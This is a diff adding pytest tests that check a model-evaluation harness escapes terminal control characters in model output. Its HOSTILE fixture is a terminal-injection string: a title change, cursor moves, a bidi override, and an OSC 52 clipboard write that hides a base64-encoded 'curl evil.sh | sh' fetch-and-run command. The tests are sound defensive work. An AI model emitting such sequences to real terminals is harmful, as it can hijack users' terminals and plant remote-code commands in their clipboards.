@@ -73,3 +73,94 @@ def test_inspect_summaries_use_the_consoles_width(run: FixtureRun) -> None:
         return max(len(line.rstrip()) for line in table.splitlines())
 
     assert longest_summary_cell(200) > longest_summary_cell(80)
+
+
+#: What a model or a candidate could write to take over a terminal: a title change (OSC 2),
+#: a clipboard write (OSC 52), a device-status query (answered into the shell's input), a
+#: cursor move over earlier lines, C1 CSI, and a bidi override.
+HOSTILE = (
+    "\x1b]2;pwned title\x07\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[6n\x1b[2A\r\x9b31m\u202e"
+)
+RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\r")
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> FixtureRun:
+    return build_state_dir(
+        tmp_path_factory.mktemp("hostile") / "state",
+        in_flight_slots=0,
+        committed_steps=2,
+        text=HOSTILE,
+        parse_error_slot=(1, 3),
+    )
+
+
+def _no_raw_controls(out: str) -> None:
+    for char in RAW_CONTROLS:
+        assert char not in out, f"{char!r} reached the terminal"
+
+
+def test_show_escapes_a_title_change_and_a_clipboard_write(hostile: FixtureRun, capsys) -> None:
+    argv = ["show", str(hostile.state_dir), hostile.best_entry_id, "--code", "--raw"]
+    assert main([*argv, "--diff-parent"]) == 0
+    out = capsys.readouterr().out
+    _no_raw_controls(out)
+    assert "\\x1b]2;pwned title\\x07" in out  # shown, escaped, so a reader sees the attempt
+    assert "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in out
+    assert "\\x9b31m" in out and "\\u202e" in out
+
+
+def test_inspect_escapes_model_text_in_every_table(hostile: FixtureRun, capsys) -> None:
+    assert main(["inspect", str(hostile.state_dir), "--cases", "2"]) == 0
+    out = capsys.readouterr().out
+    _no_raw_controls(out)
+    assert "\\x1b]52;c;" in out
+
+
+def test_show_raw_prints_a_parse_errors_executor_answer(hostile: FixtureRun, capsys) -> None:
+    archive = results.load_run(hostile.state_dir).archive
+    entry = next(e for e in archive.entries.values() if e.verifier_status == "parse_error")
+    assert main(["show", str(hostile.state_dir), entry.id, "--raw"]) == 0
+    out = capsys.readouterr().out
+    _no_raw_controls(out)
+    executor = out.split("--- executor's raw answer", 1)[1]
+    assert executor.lstrip().startswith("I would pack rings here, but I ran out of room.")
+    guidance = out.split("--- guidance model's raw answer", 1)[1].split("--- executor", 1)[0]
+    assert "<guidance>Step" in guidance
+    assert main(["show", str(hostile.state_dir), entry.id]) == 0
+    assert "raw answer" not in capsys.readouterr().out  # only with --raw
+
+
+def test_a_raw_answer_is_bounded() -> None:
+    from harness.cli.show import RAW_LIMIT
+    from harness.observe.terminal import bounded
+
+    text = bounded("x" * (RAW_LIMIT + 5), RAW_LIMIT)
+    assert text.startswith("x" * RAW_LIMIT) and text.endswith("(5 more characters not shown)")
+
+
+def test_every_control_and_bidi_character_is_shown_escaped() -> None:
+    from harness.observe.terminal import escape_terminal
+
+    assert escape_terminal("a\tb\nc") == "a\tb\nc"  # layout kept
+    assert escape_terminal("a\tb\nc", multiline=False) == "a\\x09b\\x0ac"
+    assert escape_terminal("\x00\x07\x1b\x7f\x85\x9b\u202e\u2066") == (
+        "\\x00\\x07\\x1b\\x7f\\x85\\x9b\\u202e\\u2066"
+    )
+    assert escape_terminal("ünïcode ✓ [bold]") == "ünïcode ✓ [bold]"
+
+
+def test_status_and_compare_show_hostile_names_as_text(hostile: FixtureRun, capsys) -> None:
+    """A state directory and an arm name are shown as text (no markup, controls escaped)."""
+    assert main(["status", str(hostile.state_dir), "--timeout", "1"]) == 0
+    _no_raw_controls(capsys.readouterr().out)
+    from harness.cli.compare import render
+    from harness.results.compare import Curve, Point, compare
+
+    points = (Point(0, 4, 100, None, 12.0),)
+    named = Curve("arm[/bold]\x1b]2;x\x07", 0, "r", "t", "s", "max", 10.0, points)
+    console = Console(width=200, record=True, color_system=None)
+    render(compare([named], "step", resamples=10), console)
+    out = console.export_text()
+    _no_raw_controls(out)
+    assert "arm[/bold]\\x1b]2;x\\x07" in out
